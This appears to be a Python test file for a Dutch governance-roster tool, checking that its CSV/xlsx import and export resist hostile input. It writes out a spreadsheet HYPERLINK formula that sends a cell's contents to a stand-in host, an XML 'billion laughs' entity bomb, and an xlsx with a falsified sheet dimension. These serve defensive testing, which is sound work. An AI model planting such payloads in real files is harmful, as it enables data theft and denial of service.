"""Issue 9: exports that cannot be turned against the reader, imports that cannot take the
machine down, and every known failure a Dutch message (no English detail in brackets)."""

from __future__ import annotations

import csv
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from swtgov.cli import main
from swtgov.errors import ImportRejected, SwtgovError
from swtgov.services.transfer import run_export, run_import
from swtgov.store.audit import ChangeRefused
from swtgov.store.rooster import repo

HEADER = ["naam", "rol", "termijn", "aanvang", "einde", "afgetreden", "commissies", "email", "telefoon"]
LEAK = '=HYPERLINK("http://example.invalid/?leak="&H3,"Klik")'


def xlsx(path: Path, rows: list[list[object]], header: list[str] = HEADER) -> Path:
    book = Workbook()
    sheet = book.active
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


def names(gf) -> list[str]:  # type: ignore[no-untyped-def]
    return sorted(m.name for m in repo.load_rooster(gf.db).members)


# --- exports -------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_a_formula_name_is_exported_as_text_and_round_trips_exactly(governance_file, tmp_path: Path, suffix: str) -> None:
    tricky = [LEAK, "+31 6 1234", "-Jan", "@Piet", "'=al gequote", "'s-Hertogenbosch"]
    source = tmp_path / "in.csv"
    with open(source, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, delimiter=";")
        writer.writerow(HEADER)
        for n, name in enumerate(tricky):
            # a CSV written by hand: the '-quoted forms are how a safe CSV carries them
            shown = "'" + name if name[:1] in "=+-@" or name.startswith("'=") else name
            writer.writerow([shown, "lid", 1, f"1-{n + 1}-2024", f"1-{n + 1}-2028", "", "", "", ""])
    run_import(governance_file, "rooster", source)
    assert names(governance_file) == sorted(tricky)

    target = tmp_path / f"uit{suffix}"
    run_export(governance_file, "rooster", target)
    if suffix == ".xlsx":
        sheet = load_workbook(target).active
        cells = {c.value: c.data_type for c in sheet["A"][1:]}
        assert cells[LEAK] == "s"  # a string cell: no spreadsheet runs it
        assert all(kind == "s" for kind in cells.values())
    else:
        text = target.read_text(encoding="utf-8-sig")
        first = {line.split(";")[0] for line in text.splitlines()[1:]}
        assert not any(cell[:1] in "=+-@" for cell in first), first  # OWASP: a leading '
        assert "'s-Hertogenbosch" in first
    # the round trip is exact: a re-import changes nothing
    summary = run_import(governance_file, "rooster", target)
    assert (summary.created, summary.updated) == (0, 0)
    assert names(governance_file) == sorted(tricky)


def test_control_characters_are_refused_at_import_and_at_every_input(governance_file, tmp_path: Path) -> None:
    path = tmp_path / "x.csv"
    path.write_text(";".join(HEADER) + "\nJan\x07Bel;lid;1;1-1-2024;1-1-2028;;;;\n", encoding="utf-8")
    with pytest.raises(ImportRejected) as info:
        run_import(governance_file, "rooster", path)
    assert info.value.problems == ['rij 2, kolom "naam": "Jan\x07Bel" bevat een onzichtbaar stuurteken (U+0007); haal het weg']
    with pytest.raises(ChangeRefused, match="stuurteken"), governance_file.change() as audit:
        audit.insert("file_info", {"key": "x", "value": "a\x1bb"})
    # and so every later xlsx export keeps working
    assert run_export(governance_file, "rooster", tmp_path / "uit.xlsx") == 0


# --- limits --------------------------------------------------------------------------


def _dimension_attack(path: Path) -> Path:
    """One far-away cell and a <dimension> that claims the whole sheet."""
    xlsx(path, [["Jan", "lid", 1, "1-1-2024", "1-1-2028"]])
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    sheet = sheet.replace('<dimension ref="A1:I2"/>', '<dimension ref="A1:XFD1048576"/>')
    sheet = sheet.replace("</sheetData>", '<row r="1048576"><c r="XFD1048576" t="n"><v>1</v></c></row></sheetData>')
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, sheet if name == "xl/worksheets/sheet1.xml" else data)
    return path


def test_a_lying_dimension_is_not_padded_and_the_far_cell_is_refused(governance_file, tmp_path: Path) -> None:
    path = _dimension_attack(tmp_path / "groot.xlsx")
    started = time.perf_counter()
    with pytest.raises(SwtgovError) as info:
        run_import(governance_file, "rooster", path)
    assert time.perf_counter() - started < 5
    assert "meer dan 100.000 rijen" in str(info.value) or "kolom XFD" in str(info.value)


def test_more_than_100000_rows_are_refused_quickly(governance_file, tmp_path: Path) -> None:
    path = tmp_path / "veel.csv"
    line = "Jan;lid;1;1-1-2024;1-1-2028;;;;\n"
    path.write_text(";".join(HEADER) + "\n" + line * 100_001, encoding="utf-8")
    started = time.perf_counter()
    with pytest.raises(SwtgovError, match="meer dan 100.000 rijen"):
        run_import(governance_file, "rooster", path)
    assert time.perf_counter() - started < 10


def test_after_200_problems_the_rest_are_counted(governance_file, tmp_path: Path) -> None:
    path = tmp_path / "fout.csv"
    path.write_text(";".join(HEADER) + "\n" + "Jan;lid;1;31-02-2024;1-1-2028;;;;\n" * 500, encoding="utf-8")
    with pytest.raises(ImportRejected) as info:
        run_import(governance_file, "rooster", path)
    assert len(info.value.problems) == 200
    assert info.value.more > 0
    assert str(info.value).endswith(f"… en nog {info.value.more} problemen (niet getoond).")


def test_xml_entities_are_refused_not_expanded(governance_file, tmp_path: Path) -> None:
    path = xlsx(tmp_path / "lol.xlsx", [["Jan", "lid", 1, "1-1-2024", "1-1-2028"]])
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    sheet = sheet.replace("<worksheet", f"<!DOCTYPE worksheet [{entities}]><worksheet", 1)
    sheet = sheet.replace("</sheetData>", '<row r="3"><c r="A3" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData>')
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, sheet if name == "xl/worksheets/sheet1.xml" else data)
    with pytest.raises(SwtgovError) as info:
        run_import(governance_file, "rooster", path)
    assert "kan niet als Excel-bestand worden gelezen" in str(info.value)
    assert "(" not in str(info.value).split(":", 1)[1]  # no English detail in brackets


def test_a_formula_without_a_stored_result_is_refused_by_row_and_column(governance_file, tmp_path: Path) -> None:
    path = xlsx(tmp_path / "f.xlsx", [["Jan", "lid", 1, "1-1-2024", "1-1-2028", "=DATE(2025,7,1)"]])
    # openpyxl writes formulas without a cached value: like a sheet written by another tool
    with pytest.raises(ImportRejected) as info:
        run_import(governance_file, "rooster", path)
    assert info.value.problems == [
        'rij 2, kolom "afgetreden": is een formule zonder opgeslagen uitkomst (het bestand is niet met '
        "Excel opgeslagen); open het in Excel, sla het op en importeer het opnieuw"
    ]


def test_one_windows_1252_row_in_a_utf8_file_is_refused_by_row(governance_file, tmp_path: Path) -> None:
    path = tmp_path / "gemengd.csv"
    lines = [";".join(HEADER), "Zoë Çelik;lid;1;1-1-2024;1-1-2028;;;;", "José Peña;lid;1;1-2-2024;1-2-2028;;;;"]
    path.write_bytes(b"\n".join([lines[0].encode(), lines[1].encode("utf-8"), lines[2].encode("cp1252")]) + b"\n")
    with pytest.raises(ImportRejected) as info:
        run_import(governance_file, "rooster", path)
    assert info.value.problems[0].startswith("rij 3: is in een andere tekencodering opgeslagen")
    assert names(governance_file) == []
    # a file wholly in Windows-1252 is still read as such
    path.write_bytes("\n".join([lines[0], lines[1]]).encode("cp1252") + b"\n")
    run_import(governance_file, "rooster", path)
    assert names(governance_file) == ["Zoë Çelik"]


@pytest.mark.parametrize(
    ("cell", "column", "reason"),
    [
        ("x" * 140_000, None, "bevat een cel van meer dan 131.072 tekens"),
        ("1" * 5000, "termijn", "is geen termijnnummer: een termijn ligt tussen 1 en 99"),
        ("N" * 100_000, "naam", "is 100.000 tekens lang; hier passen er hoogstens 200"),
    ],
)
def test_field_limits_are_refused_in_dutch(governance_file, tmp_path: Path, cell: str, column: str | None, reason: str) -> None:
    row = ["Jan", "lid", "1", "1-1-2024", "1-1-2028", "", "", "", ""]
    if column is None:
        row[6] = cell
    else:
        row[HEADER.index(column)] = cell
    path = tmp_path / "lang.csv"
    path.write_text(";".join(HEADER) + "\n" + ";".join(row) + "\n", encoding="utf-8")
    with pytest.raises(ImportRejected) as info:
        run_import(governance_file, "rooster", path)
    assert any(reason in p for p in info.value.problems), info.value.problems
    assert names(governance_file) == []


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"PK\x03\x04 dit is geen zip", "geen geldig .xlsx-bestand (geen zip-archief)"),
        (b"", "geen geldig .xlsx-bestand"),
    ],
)
def test_broken_files_give_a_dutch_message_and_exit_1(governance_file, tmp_path: Path, capsys, content: bytes, expected: str) -> None:
    path = tmp_path / "kapot.xlsx"
    path.write_bytes(content)
    file = governance_file.path
    governance_file.close()
    assert main(["import", str(file), "rooster", str(path)]) == 1
    err = capsys.readouterr().err
    assert expected in err and "File is not a zip file" not in err


def test_broken_xml_and_a_corrupt_zip_member_are_dutch(governance_file, tmp_path: Path) -> None:
    good = xlsx(tmp_path / "goed.xlsx", [["Jan", "lid", 1, "1-1-2024", "1-1-2028"]])
    with zipfile.ZipFile(good) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    broken_xml = tmp_path / "xml.xlsx"
    with zipfile.ZipFile(broken_xml, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data[: len(data) // 2] if name == "xl/worksheets/sheet1.xml" else data)
    with pytest.raises(SwtgovError, match="kan niet als Excel-bestand worden gelezen: de XML erin is beschadigd"):
        run_import(governance_file, "rooster", broken_xml)
    corrupt = tmp_path / "crc.xlsx"
    raw = bytearray(good.read_bytes())
    at = raw.find(b"xl/worksheets/sheet1.xml") + 60
    for i in range(at, at + 40):
        raw[i] ^= 0x55
    corrupt.write_bytes(bytes(raw))
    with pytest.raises(SwtgovError, match="kan niet als Excel-bestand worden gelezen"):
        run_import(governance_file, "rooster", corrupt)
